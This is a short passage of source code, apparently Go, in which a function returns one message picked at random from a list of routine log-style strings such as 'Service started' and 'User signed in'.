	return c.pick("Service started", "Scheduled scan completed", "User signed in", "Policy updated", "Connection established")
}
